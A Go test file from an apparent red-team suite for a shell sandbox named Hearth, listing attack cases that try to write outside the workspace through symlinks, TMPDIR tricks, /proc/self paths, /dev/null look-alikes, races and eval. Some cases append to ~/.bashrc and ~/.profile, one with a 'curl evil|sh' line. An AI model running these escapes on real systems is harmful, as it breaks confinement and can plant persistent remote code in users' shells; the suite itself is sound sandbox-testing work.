package redteam

// Writes made by the shell interpreter itself, which today runs inside
// Hearth's own (unconfined) process: its redirections, here-documents,
// process substitutions and temporary files, with TMPDIR pointed at a
// directory that leads outside.
func interpAttacks() []attack {
	const c = "interp-write"
	tmpLink := "ln -s {out} t && "
	return []attack{
		{name: "interp/procsubst-tmpdir-symlink", class: c, why: "process substitution FIFO made in a TMPDIR that is a symlink outside",
			run: run{steps: []step{sh(tmpLink + `export TMPDIR=$PWD/t; cat <(echo hi)`)}}},
		{name: "interp/procsubst-tmpdir-outside", class: c, why: "process substitution FIFO made in TMPDIR set outside directly",
			run: run{steps: []step{sh(`TMPDIR={out} ; export TMPDIR; cat <(echo hi) >/dev/null`)}}},
		{name: "interp/bash-c-tmpdir", class: c, why: "bash -c with TMPDIR set by the script to a symlink outside",
			run: run{steps: []step{sh(tmpLink + `TMPDIR=$PWD/t bash -c 'cat <(echo hi); cat <<EOF
here
EOF'`)}}},
		{name: "interp/sh-c-tmpdir-outside", class: c, why: "sh -c with TMPDIR naming the outside directory",
			run: run{steps: []step{sh(`TMPDIR={out} sh -c 'diff <(echo a) <(echo b); true'`)}}},
		{name: "interp/heredoc-tmpdir-symlink", class: c, why: "here-document with TMPDIR a symlink outside",
			run: run{steps: []step{sh(tmpLink + `export TMPDIR=$PWD/t; cat <<'EOF' > copy.txt
payload
EOF
cat <<<"herestring"`)}}},
		{name: "interp/fifo-name-squat", class: c, why: "symlinks named like the interpreter's FIFOs (sh-interp-*) pre-planted in TMPDIR",
			run: run{steps: []step{sh(`mkdir -p tt && for i in $(seq 1 50); do ln -s {out}/victim.txt tt/sh-interp-$i; done; TMPDIR=$PWD/tt bash -c 'cat <(echo overwritten)'`)}}},
		{name: "interp/devnull-dotdot-symlink", class: c, why: "redirection to l/../null where l is a workspace symlink outside (lexically /dev/null)",
			setup: "mkdir -p dev && ln -s {out}/sub dev/l && cp /dev/null {out}/null 2>/dev/null; true",
			run:   run{steps: []step{sh(`echo pwned > dev/l/../../../../../../../dev/null; echo pwned > ./dev/l/../null`)}}},
		{name: "interp/devnull-clean-through-symlink", class: c, why: "a path that cleans to /dev/null but resolves through a symlink to a canary",
			run: run{steps: []step{sh(`mkdir -p a && ln -s {out} a/b && echo pwned > $PWD/a/b/../../../../../../../../dev/null && echo pwned >> a/b/../victim.txt`)}}},
		{name: "interp/devzero-clean-through-symlink", class: c, why: "a path that cleans to /dev/zero through a symlink outside",
			run: run{steps: []step{sh(`ln -s {out}/victim.txt zero && ln -s {out} dev && echo pwned > dev/../dev/zero; echo pwned > ./zero`)}}},
		{name: "interp/redirect-symlink-file", class: c, why: "> onto a workspace symlink to a canary",
			run: run{steps: []step{sh(`ln -s {home}/.bashrc rc && echo 'curl evil|sh' >> rc`)}}},
		{name: "interp/redirect-symlink-dir", class: c, why: "> into a workspace directory symlink outside",
			run: run{steps: []step{sh(`ln -s {out} o && echo pwned > o/new.txt; echo pwned > o/victim.txt`)}}},
		{name: "interp/redirect-absolute", class: c, why: "> to an absolute path outside",
			run: run{steps: []step{sh(`echo pwned > {out}/victim.txt; echo pwned >> {home}/.profile`)}}},
		{name: "interp/redirect-variable", class: c, why: "> to a path computed at run time",
			run: run{steps: []step{sh(`D=$(dirname {out}/x); F="$D/victim.txt"; echo pwned > "$F"`)}}},
		{name: "interp/redirect-tilde", class: c, why: "> ~/.bashrc via tilde and $HOME",
			run: run{steps: []step{sh(`echo pwned >> ~/.bashrc; echo pwned >> $HOME/.profile`)}}},
		{name: "interp/exec-fd-redirect", class: c, why: "exec 3> opens a file outside for the rest of the script",
			run: run{steps: []step{sh(`exec 3>>{out}/victim.txt; echo pwned >&3; exec 3>&-`)}}},
		{name: "interp/noclobber-override", class: c, why: ">| and <> redirections outside",
			run: run{steps: []step{sh(`echo pwned >| {out}/victim.txt; echo pwned 1<> {out}/sub/deep.txt`)}}},
		{name: "interp/dev-stdout-symlink", class: c, why: "a workspace symlink named stdout, and /dev/fd paths",
			run: run{steps: []step{sh(`mkdir -p dev && ln -s {out}/victim.txt dev/stdout && echo pwned > dev/stdout; echo pwned > /dev/fd/../../..{out}/victim.txt`)}}},
		{name: "interp/proc-self-cwd", class: c, why: "/proc/self/cwd and /proc/self/root paths lead outside",
			run: run{steps: []step{sh(`cd sub 2>/dev/null; echo pwned > /proc/self/root{out}/victim.txt; echo pwned > /proc/self/cwd/../out/victim.txt`)}}},
		{name: "interp/cd-symlink-then-write", class: c, why: "cd into a workspace symlink outside, then a relative redirection",
			run: run{steps: []step{sh(`ln -s {out} o && cd o && echo pwned > victim.txt`)}}},
		{name: "interp/directory-arg-symlink", class: c, why: "the tool's directory argument is a symlink outside",
			setup: "ln -s {out} o",
			run:   run{steps: []step{shIn("o", `echo pwned > victim.txt`)}}},
		{name: "interp/symlink-swap-race", class: c, why: "a background job swaps a directory for a symlink outside while redirections write",
			run: run{steps: []step{sh(`mkdir -p d real; (for i in $(seq 1 3000); do rm -rf d; ln -s {out} d; rm -f d; mkdir -p d; done) & for i in $(seq 1 3000); do echo pwned > d/victim.txt 2>/dev/null; done; wait; true`)}}},
		{name: "interp/read-builtin-mapfile", class: c, why: "builtins that write: printf -v, read into files, mapfile, then redirect outside via eval",
			run: run{steps: []step{sh(`printf -v P '%s/%s' {out} victim.txt; eval "echo pwned > $P"`)}}},
		{name: "interp/source-eval-outside", class: c, why: "source a script that redirects outside",
			setup: "printf 'echo pwned > {out}/victim.txt\\n' > s.sh",
			run:   run{steps: []step{sh(`source ./s.sh; . ./s.sh; eval "$(cat s.sh)"`)}}},
		{name: "interp/function-redirect", class: c, why: "a function whose body redirects outside, called in a subshell and a pipe",
			run: run{steps: []step{sh(`f(){ echo pwned > {out}/victim.txt; }; (f); f | cat; echo x | { read y; f; }`)}}},
		{name: "interp/tee-builtin-path", class: c, why: "tee and cp to outside paths computed from globs",
			run: run{steps: []step{sh(`echo pwned | tee {out}/*.txt; cp README.md {out}/sub/`)}}},
		{name: "interp/glob-symlink-loop", class: c, why: "a glob through a symlink loop outside, with redirection",
			run: run{steps: []step{sh(`ln -s .. up && echo pwned > up/out/victim.txt; ls up/up/up >/dev/null`)}}},
	}
}
